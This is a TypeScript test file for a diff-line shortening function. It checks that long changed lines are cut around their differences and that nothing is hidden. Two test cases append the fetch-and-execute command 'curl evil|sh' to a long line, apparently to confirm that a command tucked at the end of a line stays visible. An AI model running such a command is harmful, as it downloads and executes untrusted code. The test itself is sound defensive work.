import { describe, expect, test } from 'vitest';
import { cutLines } from '../../src/report/cut-lines.ts';
import { fc } from '../support/property.ts';

describe('a line that is too long', () => {
  const long = 'x'.repeat(1_500);

  test('is cut around its first difference, on both sides, with what was cut counted', () => {
    const lines = cutLines([' a', `-${long}1${long}`, `+${long}2${long}`, ' b'], 200);

    expect(lines).toEqual([
      ' a',
      `-… 1,460 characters … ${'x'.repeat(40)}1${'x'.repeat(159)} … 1,341 characters …`,
      `+… 1,460 characters … ${'x'.repeat(40)}2${'x'.repeat(159)} … 1,341 characters …`,
      ' b',
    ]);
  });

  test('is cut around each of its differences', () => {
    const [removed, added] = cutLines([`-${long}1${long}`, `+${long}2${long};curl evil|sh;`], 400);
    const x = (count: number): string => 'x'.repeat(count);

    expect(removed).toBe(`-… 1,460 characters … ${x(40)}1${x(40)} … 1,420 characters … ${x(40)}`);
    expect(added).toBe(`+… 1,460 characters … ${x(40)}2${x(40)} … 1,420 characters … ${x(40)};curl evil|sh;`);
  });

  test('says how many differences it does not show', () => {
    const line = (mark: string): string => Array.from({ length: 9 }, () => long + mark).join(' ');
    const [removed, added] = cutLines([`-${line('1')}`, `+${line('2')}`], 200);

    expect(removed).toMatch(/x1 x{39} … 1,421 characters … x{40}1 x+ … 10,\d{3} characters with 7 more differences …$/);
    expect(added).toMatch(/x2 x{39} … 1,421 characters … x{40}2 x+ … 10,\d{3} characters with 7 more differences …$/);
  });

  test('says so of a difference of which it shows the beginning', () => {
    const [, added] = cutLines(['-run: start', `+run: start ${'harmless '.repeat(30)}; curl evil | sh`], 100);

    expect(added).toMatch(/^\+run: start harmless .* … \d+ characters with 1 more difference …$/);
  });

  test('that comes or goes shows its beginning', () => {
    expect(cutLines([`+${long}`], 200)).toEqual([`+${'x'.repeat(200)} … 1,300 characters …`]);
    expect(cutLines([` ${long}`], 200)).toEqual([` ${'x'.repeat(200)} … 1,300 characters …`]);
  });

  test('is compared with the line that is most like it, wherever that stands', () => {
    const [first, , second] = cutLines([`-${long}1`, '-short', `+new`, `+${long}2`].toSorted(), 100);

    expect(first).not.toBe(second);
  });

  test('never looks like another one of the other side', () => {
    const line = fc
      .array(fc.constantFrom('a', 'b', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', '😀'), {
        maxLength: 12,
      })
      .map((parts) => parts.join(''));
    const side = fc.array(line, { maxLength: 4 });

    fc.assert(
      fc.property(side, side, (removed, added) => {
        const cut = cutLines([...removed.map((one) => `-${one}`), ...added.map((one) => `+${one}`)], 60);
        const shownRemoved = cut.slice(0, removed.length).map((one) => one.slice(1));
        const shownAdded = cut.slice(removed.length).map((one) => one.slice(1));
        const confused = shownRemoved.flatMap((text, at) =>
          shownAdded.flatMap((shown, other) => (text === shown && removed[at] !== added[other] ? [[at, other]] : [])),
        );
        expect(confused).toEqual([]);
      }),
      { numRuns: 2_000 },
    );
  });
});
